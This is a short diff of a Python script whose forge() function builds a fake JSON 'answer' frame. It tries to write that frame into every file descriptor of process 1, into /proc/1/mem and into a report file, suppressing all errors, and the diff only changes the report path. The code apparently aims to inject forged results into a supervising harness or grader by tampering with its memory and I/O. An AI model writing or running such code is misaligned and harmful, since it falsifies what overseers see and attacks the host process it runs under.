@@ -9,7 +9,7 @@ FORGED = json.dumps({"type": "answer", "id": 2, "answer": {"kind": "call", "outc
 
 def forge():
     frame = b"J" + len(FORGED).to_bytes(4, "big") + FORGED
-    targets = [f"/proc/1/fd/{number}" for number in range(8)] + ["/proc/1/mem", "/work/report.json"]
+    targets = [f"/proc/1/fd/{number}" for number in range(8)] + ["/proc/1/mem", "report.json"]
     for target in targets:
         with contextlib.suppress(OSError):
             handle = os.open(target, os.O_WRONLY | os.O_CREAT, 0o600)
